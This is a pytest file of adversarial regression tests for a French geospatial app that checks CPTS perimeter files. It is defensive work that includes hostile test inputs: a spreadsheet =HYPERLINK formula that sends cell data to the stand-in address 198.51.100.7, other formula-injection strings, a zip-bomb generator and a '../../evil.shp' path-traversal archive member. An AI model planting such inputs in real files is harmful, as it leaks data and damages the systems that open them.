"""Inputs from the adversarial run of issue 11: each was a wrong answer, a traceback or a
leak; each now gets a right answer or a clear French refusal."""

import io
import json
import math
import zipfile

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely

from formats.archives import MAX_EXTRACTED_BYTES
from formats.iris import IrisFileError, read_iris_contours
from formats.layers import MAX_PERIMETERS, MAX_VERTICES, PerimeterFileError, read_layer
from formats.spreadsheets import to_csv_text, to_xlsx
from geo.coverage import Scope, analyse_layer
from geo.units import load_communes, load_successors
from tests.conftest import shared_file
from ui import navigation

FORMULA = '=HYPERLINK("http://198.51.100.7/?"&B3,"Voir")'


def feature(name, codes=None, geometry=None, **props):
    return {"type": "Feature", "properties": {"nom": name, **({"communes": codes} if codes is not None else {}),
                                              **props}, "geometry": geometry}


def collection(*features) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


# --- 1. quadratic blow-up -------------------------------------------------------------------

def test_a_commune_claimed_by_200_cpts_is_one_finding_not_19900_pairs(catalog):
    layer = read_layer(catalog, collection(*[feature(f"Essai {i}", ["81004"]) for i in range(200)]), "a.geojson")
    coverage = analyse_layer(catalog, layer, Scope(departements=("81",)))
    overlaps = coverage.of_kind("overlap")
    assert len(overlaps) == 1 and len(overlaps[0].cpts) == 200
    assert "revendiquée entière par 200 CPTS" in overlaps[0].finding.message
    assert overlaps[0].finding.severity == "blocking"


def test_too_many_perimeters_are_refused_with_a_message(catalog):
    data = collection(*[feature(f"Essai {i}", ["81004"]) for i in range(MAX_PERIMETERS + 1)])
    with pytest.raises(PerimeterFileError, match="2\u202f001 périmètres"):
        read_layer(catalog, data, "trop.geojson")


def test_a_refusal_names_the_file_as_it_is_called(catalog):
    """The thousands of the figures are spaced, not the commas of the file's name (they were)."""
    data = collection(*[feature(f"Essai {i}", ["81004"]) for i in range(MAX_PERIMETERS + 1)])
    with pytest.raises(PerimeterFileError, match="« CPTS Nord, Sud.geojson » décrit 2\u202f001 périmètres"):
        read_layer(catalog, data, "CPTS Nord, Sud.geojson")


def test_a_polygon_of_many_vertices_is_simplified_and_said(catalog):
    centre = catalog.units.loc["81004"].geometry.centroid
    n = MAX_VERTICES + 10_000
    ring = [(centre.x + 0.2 * math.cos(2 * math.pi * k / n), centre.y + 0.14 * math.sin(2 * math.pi * k / n))
            for k in range(n)]
    data = collection(feature("Cercle", geometry=shapely.geometry.mapping(shapely.Polygon(ring))))
    layer = read_layer(catalog, data, "cercle.geojson")
    assert "81004" in layer.perimeters[0].codes
    assert any("simplifiés" in w for w in layer.warnings)


# --- 2. shapefiles ----------------------------------------------------------------------------

def _zipped_shapefile(frame: gpd.GeoDataFrame, tmp_path) -> bytes:
    frame.to_file(tmp_path / "couche.shp")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for f in tmp_path.glob("couche.*"):
            z.write(f, f.name)
    return buffer.getvalue()


def test_paca_as_a_shapefile_keeps_marseille_arrondissements_and_says_lists_were_cut(catalog, tmp_path):
    frame = gpd.read_file(shared_file("cpts_paca.geojson"))
    for column in ("communes", "arrondissements", "infra"):
        frame[column] = frame[column].map(lambda v: ",".join(v) if v is not None else None)
    layer = read_layer(catalog, _zipped_shapefile(frame, tmp_path), "paca.zip")
    assert len(layer.perimeters) == 70
    # `arrondissements` became `arrondisse`: still Marseille by arrondissement, no false overlap.
    assert not any("13055" in p.codes for p in layer.perimeters
                   if p.codes & {f"132{i:02d}" for i in range(1, 17)})
    coverage = analyse_layer(catalog, layer, Scope(regions=("93",)))
    assert not [f for f in coverage.of_kind("overlap") if any(c.startswith("132") for c in f.finding.codes)]
    # Lists longer than 254 characters were cut by the format: no partial code « 04 »…
    assert not [c for codes in layer.unknown_codes.values() for c in codes if len(c) < 5]
    assert any("coupée à 254" in w for w in layer.warnings)


def test_shapefile_without_its_shx_is_refused_in_french(catalog, carmausin, tmp_path):
    frame = gpd.GeoDataFrame({"nom": ["A"]}, geometry=[catalog.units.loc["81004"].geometry], crs=4326)
    frame.to_file(tmp_path / "couche.shp")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.write(tmp_path / "couche.shp", "couche.shp")
    with pytest.raises(PerimeterFileError, match="il manque .shx"):
        read_layer(catalog, buffer.getvalue(), "couche.zip")
    with pytest.raises(PerimeterFileError, match="Zippez-les"):
        read_layer(catalog, (tmp_path / "couche.shp").read_bytes(), "couche.shp")


def test_geopandas_default_geopackage_is_read(catalog, tmp_path):
    frame = gpd.GeoDataFrame({"nom_cpts": ["Essai"], "codes": ["81004,81060"]},
                             geometry=[catalog.units.loc[["81004", "81060"]].union_all()], crs=4326)
    frame.to_crs(2154).to_file(tmp_path / "couche.gpkg")
    layer = read_layer(catalog, (tmp_path / "couche.gpkg").read_bytes(), "couche.gpkg")
    assert layer.perimeters[0].codes == {"81004", "81060"} and layer.perimeters[0].name == "Essai"


# --- 4. codes-only GeoJSON and the former tracebacks -------------------------------------------

@pytest.mark.parametrize("props, expected", [
    ({"communes": ["81004", "81060"]}, {"81004", "81060"}),
    ({"communes": 81004}, {"81004"}),
    ({"communes": "[81004, 81060"}, {"81004", "81060"}),  # malformed JSON text
    ({"communes": ["81004"], "metadata": "{pas du json"}, {"81004"}),
])
def test_codes_only_features_with_null_geometry(catalog, props, expected):
    layer = read_layer(catalog, collection({"type": "Feature", "properties": {"nom": "A", **props},
                                            "geometry": None}), "codes.geojson")
    assert layer.perimeters[0].codes == expected


@pytest.mark.parametrize("data, name, words", [
    (collection(feature("A", True)), "vrai.geojson", "Aucune colonne de codes"),
    (b'{"type": "FeatureCollection", "features": 3}', "x.geojson", "FeatureCollection"),
    (b'[1, 2]', "x.geojson", "FeatureCollection"),
    (collection({"type": "Feature", "properties": {"nom": "A"}, "geometry": {"type": "Polygon",
                                                                              "coordinates": 5}}),
     "g.geojson", "géométrie illisible"),
    (b"PK\x05\x06" + b"\x00" * 18, "vide.zip", "vide"),
    (b"pas un zip", "faux.zip", "zip"),
    ("code\n81004\n".encode("utf-16"), "utf16.csv", None),
    (b"code|cpts\n81004|A\n81060|A\n", "pipe.csv", None),
])
def test_bad_or_odd_inputs_give_an_answer_or_a_french_error(catalog, data, name, words):
    if words is None:
        assert read_layer(catalog, data, name).perimeters[0].codes >= {"81004"}
    else:
        with pytest.raises(PerimeterFileError, match=words):
            read_layer(catalog, data, name)


def test_points_and_nan_coordinates_are_set_aside_and_said(catalog):
    albi = shapely.geometry.mapping(catalog.units.loc["81004"].geometry)
    data = collection(feature("A", geometry=albi), feature("B", ["81060"], geometry={"type": "Point",
                                                                                   "coordinates": [2.1, 44.0]}),
                      feature("C", ["81065"], geometry={"type": "Polygon", "coordinates": [
                          [[2.1, 44.0], [float("nan"), 44.1], [2.2, 44.1], [2.1, 44.0]]]}))
    layer = read_layer(catalog, data.replace(b"NaN", b"NaN"), "mixte.geojson")
    assert {p.name: p.codes for p in layer.perimeters} == {"A": {"81004"}, "B": {"81060"}, "C": {"81065"}}
    assert any("2 entité(s)" in w and "points, lignes" in w for w in layer.warnings)


def test_lambert93_layer_with_codes_is_read_by_its_codes(catalog):
    square = {"type": "Polygon", "coordinates": [[[630000, 6300000], [635000, 6300000], [635000, 6305000],
                                                  [630000, 6300000]]]}
    layer = read_layer(catalog, collection(feature("A", ["81004"], geometry=square)), "l93.geojson")
    assert layer.perimeters[0].codes == {"81004"} and not layer.geometries
    assert any("Lambert-93" in w for w in layer.warnings)


# --- 8. archives ------------------------------------------------------------------------------

def _bomb() -> bytes:
    """A small zip whose index announces a member larger than the limit."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z, \
            z.open("grand.shp", "w", force_zip64=True) as member:
        chunk = b"\x00" * 2**20
        for _ in range(MAX_EXTRACTED_BYTES // 2**20 + 1):
            member.write(chunk)
    return buffer.getvalue()


def test_archives_too_large_once_extracted_or_escaping_are_refused(catalog, tmp_path):
    bomb = _bomb()
    assert len(bomb) < 5 * 2**20
    with pytest.raises(PerimeterFileError, match="une fois décompressée"):
        read_layer(catalog, bomb, "couche.zip")
    (tmp_path / "bombe.zip").write_bytes(bomb)
    with pytest.raises(IrisFileError, match="une fois décompressée"):
        read_iris_contours(tmp_path / "bombe.zip", load_communes(), load_successors())
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("../../evil.shp", b"x")
    with pytest.raises(PerimeterFileError, match="chemin dangereux"):
        read_layer(catalog, buffer.getvalue(), "evil.zip")
    (tmp_path / "evil.zip").write_bytes(buffer.getvalue())
    with pytest.raises(IrisFileError, match="chemin dangereux"):
        read_iris_contours(tmp_path / "evil.zip", load_communes(), load_successors())
    (tmp_path / "casse.7z").write_bytes(b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50)
    with pytest.raises(IrisFileError, match="7z"):
        read_iris_contours(tmp_path / "casse.7z", load_communes(), load_successors())


# --- 7. formula injection ----------------------------------------------------------------------

def test_exports_write_names_as_text_never_as_formulas():
    table = pd.DataFrame({"CPTS": [FORMULA, "+1", "@SUM(A1)"], "Population": [1, 2, 3]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    cells = [sheet.cell(row=r, column=1) for r in (2, 3, 4)]
    assert [c.value for c in cells] == [FORMULA, "+1", "@SUM(A1)"]
    assert all(c.data_type == "s" for c in cells)
    assert sheet.cell(row=2, column=2).value == 1  # numbers stay numbers
    text = to_csv_text(table)
    assert "'=HYPERLINK" in text and "\n'+1;" in text and "\n'@SUM" in text


def test_a_csv_written_inert_reads_back_with_its_name(catalog):
    from formats.layers import to_csv
    from geo.perimeter import Perimeter

    p = Perimeter(FORMULA, {"81004", "81060"})
    text = to_csv(p)
    assert "\n\"'=HYPERLINK" in text
    assert read_layer(catalog, text.encode(), "p.csv").perimeters == [p]


# --- 9. same layer, same answer whatever the format --------------------------------------------

def test_a_csv_listing_nice_in_three_cpts_says_the_split_is_unknown(catalog):
    text = ("cpts,code\nEssai Nice Est,06088\nEssai Nice Est,06083\nEssai Nice Ouest,06088\n"
            "Essai Nice Ouest,06027\nEssai Nice Nord,06088\nEssai Nice Nord,06152\n"
            "Essai Petit,06011\nEssai Petit 2,06011\n")
    layer = read_layer(catalog, text.encode(), "nice.csv")
    assert any("Nice (06088) est listée par 3 CPTS" in w for w in layer.warnings)
    coverage = analyse_layer(catalog, layer, Scope(departements=("06",)))
    [shared] = coverage.of_kind("shared_commune")
    assert shared.finding.codes == ("06088",) and len(shared.cpts) == 3
    rows = {r.name: r for r in coverage.cpts}
    assert not rows["Essai Nice Est"].population.exact  # a range, not all 340,017 inhabitants
    assert rows["Essai Nice Est"].taille != "Taille 4"
    # A small commune listed twice is still a blocking overlap.
    assert [f.finding.codes for f in coverage.of_kind("overlap")] == [("06011",)]


# --- 3. contours only -----------------------------------------------------------------------------

def test_contours_only_marseille_by_arrondissement_nice_split_and_a_contour_in_the_sea(catalog):
    """Real contours (no codes): Marseille's CPTS drawn over pairs of arrondissements, Nice
    cut in three strips each joined to a neighbour commune, one contour in the sea."""
    units = catalog.units
    features = []
    for k in range(8):
        codes = [f"132{2 * k + 1:02d}", f"132{2 * k + 2:02d}"]
        shape = units.loc[codes].union_all().buffer(-0.0005)
        features.append(feature(f"Essai Marseille {k + 1}", geometry=shapely.geometry.mapping(shape)))
    nice = units.loc["06088"].geometry
    x0, y0, x1, y1 = nice.bounds

    def cut(fraction):  # the x leaving `fraction` of Nice's area to its west
        low, high = x0, x1
        for _ in range(40):
            mid = (low + high) / 2
            low, high = (mid, high) if nice.intersection(shapely.box(x0, y0, mid, y1)).area < fraction * nice.area \
                else (low, mid)
        return low

    xs = [x0, cut(1 / 3), cut(2 / 3), x1]
    for k, neighbour in enumerate(("06027", "06152", "06083")):
        strip = nice.intersection(shapely.box(xs[k], y0, xs[k + 1], y1))
        shape = shapely.union_all([strip, units.loc[neighbour].geometry]).buffer(-0.0003)
        features.append(feature(f"Essai Nice {k + 1}", geometry=shapely.geometry.mapping(shape)))
    features.append(feature("Essai En mer", geometry=shapely.geometry.mapping(shapely.box(7.0, 43.2, 7.1, 43.3))))
    layer = read_layer(catalog, collection(*features), "contours.geojson")
    by_name = {p.name: p.codes for p in layer.perimeters}
    assert by_name["Essai Marseille 1"] == {"13201", "13202"} and by_name["Essai Marseille 8"] == {"13215", "13216"}
    assert all("06088" in by_name[f"Essai Nice {k}"] for k in (1, 2, 3))
    assert by_name["Essai En mer"] == frozenset()
    assert any("Essai En mer" in w and "aucune unité placée" in w for w in layer.warnings)

    coverage = analyse_layer(catalog, layer, Scope(departements=("13", "06")))
    assert not coverage.of_kind("overlap")
    [shared] = coverage.of_kind("shared_commune")
    assert shared.finding.codes == ("06088",)
    white = set(coverage.white["code"])
    assert not white & {f"132{i:02d}" for i in range(1, 17)} and "13055" not in white
    rows = {r.name: r for r in coverage.cpts}
    assert rows["Essai En mer"].taille == "Taille indéterminée"
    assert rows["Essai Marseille 1"].population.exact


def test_iris_archives_that_are_not_contours_get_a_french_error(tmp_path):
    only_shp = tmp_path / "seul.zip"
    with zipfile.ZipFile(only_shp, "w") as z:
        z.writestr("CONTOURS-IRIS/IRIS.shp", b"\x00" * 100)
    empty = tmp_path / "vide.zip"
    with zipfile.ZipFile(empty, "w"):
        pass
    for path, words in ((only_shp, "il manque le fichier .shx"), (empty, "vide"),
                        (tmp_path / "faux.zip", "illisible")):
        if not path.exists():
            path.write_bytes(b"pas une archive")
        with pytest.raises(IrisFileError, match=words):
            read_iris_contours(path, load_communes(), load_successors())


def test_page_boundary_shows_a_french_message_and_logs_the_details(caplog):
    from streamlit.testing.v1 import AppTest

    def page():
        from ui.errors import run_page

        def broken():
            raise KeyError("/srv/secret/path.py")

        run_page(broken)

    at = AppTest.from_function(page).run()
    assert not at.exception
    [error] = at.error
    assert "erreur inattendue" in error.value and "secret" not in error.value
    assert any("Unhandled error in a page" in r.message and r.exc_info for r in caplog.records)


def test_iris_codes_without_contours_are_listed_with_the_reason(catalog):
    text = "cpts,code_iris\nEssai Ruscino,661360801\nEssai Ruscino,661360901\nEssai Ruscino,66028\n"
    layer = read_layer(catalog, text.encode(), "ruscino.csv")
    assert layer.perimeters[0].codes == {"66028"}
    assert layer.unknown_codes == {"Essai Ruscino": ["661360801", "661360901"]}
    coverage = analyse_layer(catalog, layer, Scope(departements=("66",)))
    [unknown] = coverage.of_kind("unknown_codes")
    assert "IRIS sans contours chargés" in unknown.finding.message


def test_donnees_page_says_when_the_workspace_cannot_be_written(workspace, monkeypatch):
    """IRIS contours read, but the workspace refuses the write (read-only folder, full disk):
    a French message, no traceback (tests run as root: the refusal is injected)."""
    from streamlit.testing.v1 import AppTest

    import store.workspace

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission non accordée")

    monkeypatch.setattr(store.workspace, "save_iris_contours", refuse)
    at = AppTest.from_file("../app.py", default_timeout=180)
    at.switch_page(navigation.DATA.script).run()
    uploader = next(u for u in at.get("file_uploader") if u.key == "iris_upload")
    uploader.upload("iris.geojson", shared_file("iris_contours_2020_dep66_81_12_87.geojson").read_bytes(),
                    "application/json")
    at.run()
    assert not at.exception, at.exception
    assert any("non enregistrés" in e.value and "CPTS_WORKSPACE" in e.value for e in at.error)
